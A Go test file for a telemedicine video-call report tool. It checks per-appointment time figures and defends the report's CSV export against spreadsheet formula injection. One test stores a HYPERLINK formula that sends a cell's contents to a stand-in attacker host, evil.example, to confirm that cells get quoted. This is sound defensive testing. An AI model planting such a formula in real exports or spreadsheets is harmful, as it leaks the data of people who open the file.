package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"cloud.google.com/go/firestore"

	"github.com/telemed/videocalls/hms"
	"github.com/telemed/videocalls/internal/emulatortest"
	"github.com/telemed/videocalls/internal/sessiongen"
	"github.com/telemed/videocalls/store"
)

func TestMain(m *testing.M) { emulatortest.Main(m) }

const waitingRole = "waiting-room"

// TestReportOfAGeneratedDay: a generated day of consultations (sessiongen:
// drops, rejoins, several sessions, waiting rooms and admissions) applied
// in a shuffled order with duplicates by four writers; then the report of
// that day lists every ended call once, with the figures computed here
// independently from the events (every instant someone joined, left or was
// admitted cuts time into segments, each counted for whoever was in).
// Planted bugs caught: the report's cursor on endedAt alone (calls ending
// at the same instant lost at page edges; pages of 500 here hold a day, so
// the store's own paging test lowers the page), togetherSec counted with the
// client in the waiting room (the figures differ).
func TestReportOfAGeneratedDay(t *testing.T) {
	host := emulatortest.Firestore(t)
	const project = "demo-report"
	emulatortest.Wipe(t, project)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	st, err := store.Open(ctx, project)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	st.SetWaitingRole(waitingRole)

	day := time.Date(2026, 11, 30, 8, 0, 0, 0, time.UTC)
	rooms := sessiongen.New(sessiongen.Config{Seed: 21, Prefix: "rep", MaxSessions: 2, WaitingRole: waitingRole, Start: day}).Rooms(600)
	var all [][]byte
	for _, r := range rooms {
		appt := store.Appointment{ID: r.AppointmentID, DoctorID: "uid-doctor-" + r.AppointmentID, ClientID: "uid-client-" + r.AppointmentID}
		if _, err := st.RecordRoom(ctx, appt, store.Room{ID: r.ID, Name: r.Name, TemplateID: r.TemplateID}, nil); err != nil {
			t.Fatal(err)
		}
		for _, ev := range r.Events {
			all = append(all, ev.Body)
		}
	}
	want := expected(t, all)

	rng := rand.New(rand.NewPCG(5, 8))
	order := append([][]byte(nil), all...)
	rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
	for range len(order) / 10 {
		order = append(order, order[rng.IntN(len(order))])
	}
	ch := make(chan []byte)
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for raw := range ch {
				ev, err := hms.ParseEvent(raw)
				if err == nil {
					_, err = st.ApplyEvent(ctx, ev, raw)
				}
				if err != nil {
					t.Errorf("apply: %v", err)
				}
			}
		})
	}
	for _, raw := range order {
		ch <- raw
	}
	close(ch)
	wg.Wait()

	var out, errOut bytes.Buffer
	lookup := func(k string) (string, bool) {
		switch k {
		case "FIRESTORE_EMULATOR_HOST":
			return host, true
		case "GOOGLE_CLOUD_PROJECT":
			return project, true
		}
		return "", false
	}
	if code := run(ctx, []string{"--since", "2026-11-30", "--until", "2026-12-02", "--csv"}, lookup, &out, &errOut); code != 0 {
		t.Fatalf("report: exit %d: %s", code, errOut.String())
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	if strings.Join(rows[0], ",") != strings.Join(columns, ",") {
		t.Fatalf("header %v", rows[0])
	}
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		appt := row[0]
		if seen[appt] {
			t.Errorf("%s listed twice", appt)
		}
		seen[appt] = true
		w, ok := want[appt]
		if !ok {
			t.Errorf("%s is not a generated call", appt)
			continue
		}
		got := fmt.Sprintf("doctor %s client %s together %s wait %s", row[6], row[7], row[8], row[9])
		exp := fmt.Sprintf("doctor %s client %s together %s wait %s", min1(w.doctor), min1(w.client), min1(w.together), min1(w.wait))
		if got != exp {
			t.Errorf("%s: %s; computed from the events: %s", appt, got, exp)
		}
		if row[5] != strconv.Itoa(w.sessions) {
			t.Errorf("%s: %s sessions; want %d", appt, row[5], w.sessions)
		}
	}
	if len(seen) != len(want) {
		t.Errorf("%d calls listed; %d were generated", len(seen), len(want))
	}
	waited := 0
	for _, w := range want {
		if w.wait > 0 {
			waited++
		}
	}
	if waited == 0 || len(want) < 10 {
		t.Errorf("the day should have waiting rooms and a dozen calls: %d calls, %d with waiting", len(want), waited)
	}
}

func min1(d time.Duration) string {
	sec := int64(d.Round(time.Second) / time.Second)
	return strconv.FormatFloat(float64(sec)/60, 'f', 1, 64)
}

type figures struct {
	doctor, client, together, wait time.Duration
	sessions                       int
}

// expected computes each appointment's figures from the events alone.
func expected(t *testing.T, raws [][]byte) map[string]figures {
	t.Helper()
	type peer struct {
		user, appt         string
		join, leave, admit time.Time
		waited             bool
	}
	peers := map[string]*peer{}
	sessions := map[string]map[string]bool{}
	for _, raw := range raws {
		var e struct {
			Type string         `json:"type"`
			Data map[string]any `json:"data"`
		}
		if err := json.Unmarshal(raw, &e); err != nil {
			t.Fatal(err)
		}
		str := func(k string) string { s, _ := e.Data[k].(string); return s }
		at := func(k string) time.Time {
			ts, _ := time.Parse(time.RFC3339Nano, str(k))
			return ts.UTC().Truncate(time.Microsecond)
		}
		room := str("room_id")
		pid := str("peer_id")
		get := func() *peer {
			if peers[pid] == nil {
				peers[pid] = &peer{}
			}
			return peers[pid]
		}
		switch e.Type {
		case "session.open.success":
			if sessions[room] == nil {
				sessions[room] = map[string]bool{}
			}
			sessions[room][str("session_id")] = true
		case "peer.join.success":
			p := get()
			p.user, p.appt, p.join = str("user_id"), room, at("joined_at")
			p.waited = p.waited || str("role") == waitingRole
		case "peer.leave.success":
			get().leave = at("left_at")
		case "role.change.success":
			if str("previous_role") == waitingRole && str("role") != waitingRole {
				p := get()
				p.waited = true
				if a := at("role_changed_at"); p.admit.IsZero() || a.Before(p.admit) {
					p.admit = a
				}
			}
		}
	}
	byRoom := map[string][]*peer{}
	for _, p := range peers {
		if p.user != "" {
			byRoom[p.appt] = append(byRoom[p.appt], p)
		}
	}
	out := map[string]figures{}
	for room, ps := range byRoom {
		var appt string
		for _, p := range ps {
			if strings.HasPrefix(p.user, "uid-doctor-") {
				appt = strings.TrimPrefix(p.user, "uid-doctor-")
			}
		}
		spans := make([]sessiongen.Span, 0, len(ps))
		for _, p := range ps {
			spans = append(spans, sessiongen.Span{User: p.user, From: p.join, Admit: p.admit, To: p.leave, Waited: p.waited})
		}
		vf := sessiongen.VisitFigures(spans, "uid-doctor-"+appt, "uid-client-"+appt)
		f := figures{sessions: len(sessions[room]), doctor: vf.Doctor, client: vf.Client, together: vf.Together, wait: vf.Wait}
		out[appt] = f
	}
	return out
}

// formulaChars are the first characters of a cell that a spreadsheet may
// run as a formula (OWASP, CSV injection), written out here on their own.
const formulaChars = "=+-@\t\r"

// TestCSVInjection reads, through the real path (the emulator, the store's
// query, the CSV writer), ended calls whose appointment id, doctor, client
// and endedBy uids start with formula characters. No cell of the report
// starts with one, and each such value is there after one quote, as
// stored. A visit with negative seconds (a corrupt document: the webhook
// never writes one) shows its minutes after a quote too, as text: the rule
// is the same for every cell (docs/decisions.md).
func TestCSVInjection(t *testing.T) {
	host := emulatortest.Firestore(t)
	const project = "demo-report-injection"
	emulatortest.Wipe(t, project)
	ctx := context.Background()
	fs, err := firestore.NewClient(ctx, project)
	if err != nil {
		t.Fatal(err)
	}
	defer fs.Close()
	const probe = `=HYPERLINK("https:evil.example?d="&A1,"Open the record")`
	end := time.Date(2026, 12, 2, 10, 30, 0, 0, time.UTC)
	calls := map[string]map[string]any{
		probe: {"doctorId": "@doctor", "clientId": "+client", "startedAt": end.Add(-30 * time.Minute), "endedAt": end,
			"sessionCount": int64(1), "endedBy": map[string]any{"uid": "-1+1"},
			"visit": map[string]any{"doctorSec": int64(1800), "clientSec": int64(1500), "togetherSec": int64(1500), "waitSec": int64(60)}},
		"appt-2": {"doctorId": "\tdoctor", "clientId": "'=already quoted", "startedAt": end.Add(-time.Hour), "endedAt": end.Add(time.Minute),
			"sessionCount": int64(2), "endedBy": map[string]any{"uid": "\r=1+1"},
			"visit": map[string]any{"doctorSec": int64(-90), "clientSec": int64(0), "togetherSec": int64(0), "waitSec": int64(0)}},
	}
	for id, d := range calls {
		if _, err := fs.Collection("calls").Doc(id).Set(ctx, d); err != nil {
			t.Fatal(err)
		}
	}
	lookup := func(k string) (string, bool) {
		switch k {
		case "FIRESTORE_EMULATOR_HOST":
			return host, true
		case "GOOGLE_CLOUD_PROJECT":
			return project, true
		}
		return "", false
	}
	var out, errOut bytes.Buffer
	if code := run(ctx, []string{"--since", "2026-12-02", "--until", "2026-12-03", "--csv"}, lookup, &out, &errOut); code != 0 {
		t.Fatalf("report: exit %d: %s", code, errOut.String())
	}
	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("%v: want the header and 2 rows:\n%s", err, out.String())
	}
	for i, row := range rows {
		for j, c := range row {
			if c != "" && strings.ContainsRune(formulaChars, rune(c[0])) {
				t.Errorf("row %d, %s = %q starts with a formula character", i, columns[j], c)
			}
		}
	}
	col := func(row []string, name string) string { return row[slices.Index(columns, name)] }
	// encoding/csv writes CRLF line ends and drops a lone CR in a field:
	// "\r=1+1" is "'=1+1" in the file.
	for i, want := range []map[string]string{
		{"appointmentId": "'" + probe, "doctorId": "'@doctor", "clientId": "'+client", "endedBy": "'-1+1", "doctorMin": "30.0", "waitMin": "1.0"},
		{"appointmentId": "appt-2", "doctorId": "'\tdoctor", "clientId": "''=already quoted", "endedBy": "'=1+1", "doctorMin": "'-1.5", "clientMin": "0.0"},
	} {
		for k, v := range want {
			if got := col(rows[i+1], k); got != v {
				t.Errorf("row %d %s = %q, want %q", i+1, k, got, v)
			}
		}
	}
}
